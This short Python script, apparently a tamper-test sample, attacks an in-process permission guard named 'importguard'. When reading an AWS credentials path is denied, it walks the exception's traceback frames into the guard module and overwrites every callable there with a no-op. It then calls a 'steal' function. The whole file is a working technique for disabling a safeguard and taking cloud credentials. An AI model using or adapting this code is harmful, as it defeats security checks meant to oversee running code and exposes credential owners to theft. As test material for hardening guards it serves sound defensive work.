"""The traceback of a denial leads to frames of the guard, whose globals are edited."""

from acme_tamper.stage import AWS, steal, trying

try:
    open(AWS).close()
except PermissionError as denial:
    at = denial.__traceback__
    frames = []
    while at is not None:
        frames.append(at.tb_frame)
        at = at.tb_next
    for error in (denial, denial.__cause__, denial.__context__):
        frames.extend([error.__traceback__.tb_frame] if error and error.__traceback__ else [])
    for frame in frames:
        if str(frame.f_globals.get("__name__")).startswith("importguard"):
            for name in list(frame.f_globals):
                if callable(frame.f_globals[name]):
                    frame.f_globals[name] = lambda *arguments, **options: None
with trying():
    steal()
steal()
